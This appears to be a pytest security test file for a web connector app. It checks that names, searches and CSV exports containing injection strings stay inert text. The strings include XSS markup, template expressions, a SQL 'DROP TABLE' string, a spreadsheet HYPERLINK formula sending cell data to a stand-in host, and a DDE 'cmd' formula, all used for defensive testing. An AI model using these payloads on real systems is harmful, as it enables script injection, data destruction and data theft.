"""Names and searches that want to be markup, templates, SQL or formulas stay what they are: text."""

from __future__ import annotations

import csv
import html
import io
import re
from collections import deque
from collections.abc import Callable, Iterator
from urllib.parse import quote

import httpx
import pytest
from fastapi import FastAPI
from page_world import BILLS, ORDERS, PAIR, SUPPLIERS, World, bill, finding, order, routes_of, supplier, unmapped
from sqlalchemy import func, select

from ml_connector.domain.finding import Reason
from ml_connector.store.engine import reading
from ml_connector.store.tables import document

Browse = Callable[[str], httpx.Client]
MARKUP = '"><script>alert(1)</script><img src=x onerror=alert(2)>'
TEMPLATE = "{{7*191}}${7*191}{% raw %}#{7*191}"
SQL = "x' OR '1'='1'; DROP TABLE mlc_document; --"
FORMULA = '=HYPERLINK("http://elsewhere.example/?"&A1)'
EVIL = (
    MARKUP,
    TEMPLATE,
    SQL,
    FORMULA,
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "-2+3",
    "%00%27%22",
    "\\u003cb\\u003e",
)
MOST_PAGES = 400
SEARCHES = (
    "/queue.json?q={}", "/queue.json?flow={}", "/queue.json?pair={}", "/queue.json?reason={}&q={}", "/pairs/{}.json",
    "/mappings.json?pair=acumatica_cin7&q={}", "/mappings.json?pair={}&map=account", "/mappings.json?map={}",
    "/reconciliation.json?pair={}", "/reconciliation.json?pair=acumatica_cin7&from={}",
    "/plan.json?pair=acumatica_cin7&run={}", "/plan.json?pair={}&run={}",
    "/mappings/entry.json?pair=acumatica_cin7&map=account&cin7_code={}",
    "/mappings/history.json?pair=acumatica_cin7&map={}",
    "/queue/group.json?reason={}&value={}", "/documents.json?pair=acumatica_cin7&flow=supplier_invoices&key={}",
    "/documents.json?pair={}&flow={}&key={}", "/pairs/acumatica_cin7/runs/{}.json",
)  # fmt: skip


@pytest.fixture
def evil(world: World) -> World:
    """Documents whose supplier, account, message and keys are all that."""
    for number, text in enumerate(EVIL):
        one = bill(f"B{number}", account=text, supplier=text)
        world.park(BILLS, one, unmapped(one, text), days=number)
        world.park(SUPPLIERS, supplier(text, text), finding(Reason.REFUSED_BY_TARGET, f"It says {text}.", value=text))
        world.deliver(ORDERS, order(f"O{number}"), text)
        detail = {"label": text, "hash": "h", "changes": {text: {"from": text, "to": text}}}
        world.database.audit(PAIR, ORDERS, "dry").note(f"O{number}", "would be updated", detail)
        if text.strip() == text and text.isprintable():
            world.database.code_maps(PAIR).set("account", text, text, author=text, note=text)
    world.database.staging(PAIR, ORDERS, "dry").begin()
    world.run(BILLS)
    return world


def crawl(client: httpx.Client) -> Iterator[httpx.Response]:
    """Yield every page that can be come to by links, and searches for each evil text."""
    searches = [
        f"{path}?{name}={html.escape(text)}" for path, name in (("queue", "q"), ("mappings", "q")) for text in EVIL[:3]
    ]
    waiting = deque(
        [
            "",
            "queue",
            "mappings",
            f"mappings?pair={PAIR}&map=account",
            "reconciliation",
            f"plan?pair={PAIR}&run=dry",
            *searches,
        ]
    )
    seen: set[str] = set()
    while waiting and len(seen) < MOST_PAGES:
        path = waiting.popleft()
        if path in seen:
            continue
        seen.add(path)
        answer = client.get(f"/{path}")
        yield answer
        root = "/airflow/ml-connector/"
        for link in re.findall(
            r'(?:href|action)="([^"]+)"', answer.text if "html" in answer.headers["content-type"] else ""
        ):
            target = html.unescape(link)
            if target.startswith(root):
                waiting.append(target.removeprefix(root).partition("#")[0])


def test_no_page_runs_what_a_name_holds(evil: World, browse: Browse) -> None:
    """Markup is shown as text, templates are not rendered, and no page breaks, wherever one can click to."""
    pages = list(crawl(browse("mia")))
    shown = [page for page in pages if "html" in page.headers["content-type"]]
    assert len(shown) > 30
    assert [str(page.url) for page in pages if page.status_code >= 500] == []
    for page in shown:
        assert "<script>alert" not in page.text
        assert "<img src=x" not in page.text
        assert "1337" not in page.text, "7*191 was calculated"
        assert "javascript:" not in page.text
    assert any("&lt;script&gt;alert" in page.text for page in shown), "the names are shown at all"
    assert any(TEMPLATE[:9] in page.text for page in shown)


def test_a_page_may_run_no_script_of_its_own(browse: Browse) -> None:
    """Were something shown unescaped, the browser would not run it: the policy allows no script but what it names."""
    policy = browse("mia").get("/queue").headers["content-security-policy"]
    assert "unsafe-inline" not in policy
    assert "default-src 'none'" in policy


@pytest.mark.parametrize("path", SEARCHES)
def test_a_search_is_a_value(evil: World, app: FastAPI, browse: Browse, path: str) -> None:
    """Whatever stands in a query is compared, not carried out: nothing breaks down, the tables are whole."""
    client = browse("mia")
    answers = [client.get(path.replace("{}", quote(text, safe=""))).status_code for text in EVIL]
    assert set(answers) <= {200, 403, 404, 422}
    assert any(one.path_regex.match(path.partition("?")[0]) for one in routes_of(app))
    with reading(evil.database.engine) as connection:
        assert connection.execute(select(func.count()).select_from(document)).scalar() == 3 * len(EVIL)


@pytest.mark.parametrize(("text", "number"), [("OR '1'='1'", 2), ("%", 2), ("no such", 0)])
def test_a_search_finds_the_text_itself(evil: World, browse: Browse, text: str, number: int) -> None:
    """A wild card or a quote finds what holds it, not everything."""
    found = browse("mia").get("/queue.json", params={"q": text}).json()
    assert found["shown"] >= number if number else found["shown"] == 0
    assert found["shown"] < browse("mia").get("/queue.json").json()["shown"]


def test_no_cell_of_an_export_is_a_formula(evil: World, browse: Browse) -> None:
    """Every CSV file that the pages link to has no cell that a spreadsheet would calculate."""
    client, files = browse("mia"), 0
    for page in list(crawl(client)):
        if "csv" not in page.headers["content-type"]:
            continue
        files += 1
        for row in csv.reader(io.StringIO(page.text.removeprefix("\ufeff"))):
            risky = [
                cell for cell in row if re.match(r"[=+\-@\t\r\n＝＋－＠]", cell) and not re.fullmatch(r"-[0-9.]+", cell)
            ]
            assert risky == [], page.url
    assert files >= 3
